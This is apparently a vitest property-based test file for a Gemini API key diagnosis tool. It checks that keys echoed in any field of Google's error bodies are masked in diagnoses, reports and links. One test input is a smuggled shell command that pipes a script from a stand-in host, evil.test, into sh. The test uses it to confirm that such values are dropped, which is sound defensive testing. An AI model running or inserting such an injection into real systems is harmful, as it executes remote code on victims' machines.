/**
 * Masking covers every field: a key that Google (or a wrapper) echoes in any string of its error
 * body, not only `message`, never reaches what is shown, copied or linked (the diagnosis, both
 * reports, every link), and what is used from the body stays in Google's grammar.
 */
import fc from 'fast-check';
import { describe as group, expect, it } from 'vitest';
import { buildExplanationReport, buildReport } from '@/utils/api-key/report';
import { classifyErrorText, classifyResponse, describe } from '@/utils/diagnosis';
import type { Diagnosis, DiagnosisFacts } from '@/utils/diagnosis/types';
import { explainPastedText } from '@/utils/explain';
import { googleLink, pageValue, projectValue } from '@/utils/page-values';
import { maskKey } from '@/utils/redact';

const SEED = 20261130;
const KEY_CHARS = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-'.split('');

const keyChars = (length: number) => fc.string({ unit: fc.constantFrom(...KEY_CHARS), minLength: length, maxLength: length });
/** A legacy standard key, a 2026 auth key, or whatever else the user tested (masked as the tested key). */
const keyArb = fc.oneof(
  keyChars(35).map((rest) => ({ key: `AIza${rest}`, tested: false })),
  fc.tuple(keyChars(20), keyChars(30)).map(([a, b]) => ({ key: `AQ.${a}.${b}`, tested: false })),
  fc.tuple(fc.constantFrom('sk-', 'ghp_', 'GOCSPX-', 'x'), keyChars(28)).map(([prefix, rest]) => ({ key: prefix + rest, tested: true })),
);

const word = fc.string({ unit: fc.constantFrom(...'abcdefghijklmnopqrstuvwxyz0123456789 -_./:'.split('')), maxLength: 24 });

/** A Google error body in its real shape (ErrorInfo, QuotaFailure, Help, RetryInfo), with realistic or random strings. */
const bodyArb = fc.record({
  code: fc.constantFrom(400, 401, 403, 404, 429, 500, 503),
  message: fc.oneof(fc.constantFrom('API key not valid. Please pass a valid API key.', 'Permission denied: Consumer \'api_key:X\' has been suspended.', 'Quota exceeded for metric: generate_content_free_tier_requests, limit: 0', 'Generative Language API has not been used in project 445009168042 before or it is disabled.'), word),
  status: fc.constantFrom('INVALID_ARGUMENT', 'PERMISSION_DENIED', 'RESOURCE_EXHAUSTED', 'NOT_FOUND', 'UNAVAILABLE'),
  reason: fc.constantFrom('API_KEY_INVALID', 'CONSUMER_SUSPENDED', 'SERVICE_DISABLED', 'API_KEY_SERVICE_BLOCKED', 'RATE_LIMIT_EXCEEDED'),
  domain: fc.constantFrom('googleapis.com', 'global'),
  consumer: fc.constantFrom('projects/445009168042', 'projects/gen-lang-client-0371227417'),
  service: fc.constantFrom('generativelanguage.googleapis.com', 'aiplatform.googleapis.com'),
  containerInfo: fc.constantFrom('445009168042', 'gen-lang-client-0371227417'),
  activationUrl: fc.constantFrom('https://console.developers.google.com/apis/api/generativelanguage.googleapis.com/overview?project=445009168042'),
  quotaId: fc.constantFrom('GenerateRequestsPerDayPerProjectPerModel-FreeTier', 'GenerateContentInputTokensPerModelPerMinute-FreeTier'),
  quotaMetric: fc.constantFrom('generativelanguage.googleapis.com/generate_content_free_tier_requests'),
  quotaValue: fc.constantFrom('0', '15', '1500'),
  model: fc.constantFrom('gemini-2.5-flash', 'gemini-2.5-pro'),
  helpDescription: word,
  helpUrl: fc.constantFrom('https://ai.google.dev/gemini-api/docs/rate-limits', 'https://console.developers.google.com/apis/api/generativelanguage.googleapis.com/overview?project=445009168042'),
  retryDelay: fc.constantFrom('51s', '7s'),
  quota_limit: fc.constantFrom('GenerateContentRequestsPerMinutePerProjectPerRegion'),
});

type Fields = typeof bodyArb extends fc.Arbitrary<infer T> ? T : never;
const STRING_FIELDS = ['message', 'status', 'reason', 'domain', 'consumer', 'service', 'containerInfo', 'activationUrl', 'quotaId', 'quotaMetric', 'quotaValue', 'model', 'helpDescription', 'helpUrl', 'retryDelay', 'quota_limit'] as const;

function googleBody(fields: Fields) {
  return {
    error: {
      code: fields.code,
      message: fields.message,
      status: fields.status,
      details: [
        {
          '@type': 'type.googleapis.com/google.rpc.ErrorInfo',
          reason: fields.reason,
          domain: fields.domain,
          metadata: { consumer: fields.consumer, service: fields.service, containerInfo: fields.containerInfo, activationUrl: fields.activationUrl, quota_limit: fields.quota_limit, model: fields.model },
        },
        {
          '@type': 'type.googleapis.com/google.rpc.QuotaFailure',
          violations: [{ quotaMetric: fields.quotaMetric, quotaId: fields.quotaId, quotaValue: fields.quotaValue, quotaDimensions: { model: fields.model, location: 'global' } }],
        },
        { '@type': 'type.googleapis.com/google.rpc.Help', links: [{ description: fields.helpDescription, url: fields.helpUrl }] },
        { '@type': 'type.googleapis.com/google.rpc.RetryInfo', retryDelay: fields.retryDelay },
      ],
    },
  };
}

/** Where the key goes in the field: all of it, or inside other text (as Google's `api_key:…`). */
const placement = fc.constantFrom('whole', 'prefix', 'suffix', 'inside', 'url') as fc.Arbitrary<'whole' | 'prefix' | 'suffix' | 'inside' | 'url'>;

function withKey(value: string, key: string, where: 'whole' | 'prefix' | 'suffix' | 'inside' | 'url'): string {
  switch (where) {
    case 'whole':
      return key;
    case 'prefix':
      return `api_key:${key}`;
    case 'suffix':
      return `${value} ${key}`;
    case 'inside':
      return `${value.slice(0, 4)}${key} ${value.slice(4)}`;
    case 'url':
      return `https://console.cloud.google.com/apis/credentials?project=${key}`;
  }
}

/** Everything shown, copied or linked for one diagnosis. */
function everythingOut(diagnosis: Diagnosis, facts: DiagnosisFacts): string[] {
  const report = buildReport({
    maskedKey: 'AIza…abcd',
    result: { outcome: 'tested', facts, probes: [{ name: 'listModels', httpStatus: facts.httpStatus, facts, elapsedMs: 1 }] },
    diagnosis,
    when: new Date(0),
  });
  return [JSON.stringify(diagnosis), buildExplanationReport(diagnosis), buildExplanationReport(diagnosis, 'zh-CN'), report, ...diagnosis.links.map((link) => link.url)];
}

function expectSafe(diagnosis: Diagnosis, facts: DiagnosisFacts, key: string) {
  for (const out of everythingOut(diagnosis, facts)) expect(out.includes(key), out.slice(0, 300)).toBe(false);
  for (const link of diagnosis.links) expect(googleLink(link.url)).toBe(link.url);
  if (diagnosis.project !== undefined) expect(projectValue(diagnosis.project)).toBe(diagnosis.project);
  if (diagnosis.model !== undefined) expect(pageValue('model', diagnosis.model)).toBe(diagnosis.model);
  if (diagnosis.service !== undefined) expect(pageValue('service', diagnosis.service)).toBe(diagnosis.service);
  if (diagnosis.quotaId !== undefined) expect(pageValue('quotaId', diagnosis.quotaId)).toBe(diagnosis.quotaId);
  if (diagnosis.reason !== undefined) expect(pageValue('reason', diagnosis.reason)).toBe(diagnosis.reason);
}

group('a key in any field of Google’s error body', () => {
  it('is masked in the diagnosis, the reports and the links (HTTP answer and pasted text)', () => {
    let runs = 0;
    fc.assert(
      fc.property(bodyArb, fc.constantFrom(...STRING_FIELDS), keyArb, placement, (fields, field, { key, tested }, where) => {
        runs++;
        const body = JSON.stringify(googleBody({ ...fields, [field]: withKey(fields[field], key, where) }));
        const secrets = tested ? [key] : [];
        const fromResponse = classifyResponse(fields.code, body);
        expectSafe(describe(fromResponse, { secrets }), fromResponse, key);
        for (const locale of ['en', 'zh-CN'] as const) expectSafe(describe(fromResponse, { secrets, locale }), fromResponse, key);
        // Pasted: as raw JSON and as an SDK string around it.
        for (const pasted of [body, `[GoogleGenerativeAI Error]: Error fetching from https://generativelanguage.googleapis.com/v1beta/models/gemini-2.5-flash:generateContent: [${fields.code}] ${fields.message} ${body}`]) {
          const facts = classifyErrorText(pasted);
          if (facts) expectSafe(describe(facts, { secrets }), facts, key);
          const explained = explainPastedText(pasted, { secrets });
          if (explained) expectSafe(explained, explained, key);
        }
        // Keys Google's own shapes: masked even before describe, in the facts that cross messaging.
        if (!tested) expect(JSON.stringify(fromResponse).includes(key)).toBe(false);
      }),
      { seed: SEED, numRuns: 600 },
    );
    console.log(`masking over every field: ${runs} generated bodies`);
    expect(runs).toBe(600);
    // A bound for a loaded machine (about 5 s alone on two shared cores), not a time assertion.
  }, 60_000);

  it('a project "id" that is a key, or a masked key, is dropped: the words say "your project", no link carries it', () => {
    const key = 'AIzaSyDEMO-suspended-012345678901234567';
    for (const project of [key, maskKey(key), 'x;curl -s https://evil.test/p|sh;#']) {
      const diagnosis = describe({ id: 'api-disabled', project, reason: key, quotaId: key, model: key, service: key, message: `Consumer 'api_key:${key}'` });
      expect(diagnosis.project).toBeUndefined();
      expect(diagnosis.reason).toBeUndefined();
      expect(diagnosis.quotaId).toBeUndefined();
      expect(diagnosis.model).toBeUndefined();
      expect(diagnosis.service).toBeUndefined();
      expect(diagnosis.message).toBe(`Consumer 'api_key:${maskKey(key)}'`);
      expect(diagnosis.steps.join(' ')).toContain('the key’s project');
      for (const link of diagnosis.links) expect(link.url).not.toMatch(/project=|AIza|evil/);
    }
  });

  it('the tested key is masked whatever its shape, once it is long enough to be a secret', () => {
    const tested = 'sk-proj-0123456789abcdef';
    const diagnosis = describe({ id: 'key-invalid', message: `bad key ${tested}`, reason: tested }, { secrets: [tested] });
    expect(JSON.stringify(diagnosis)).not.toContain(tested);
    expect(diagnosis.message).toBe(`bad key ${maskKey(tested)}`);
  });
});
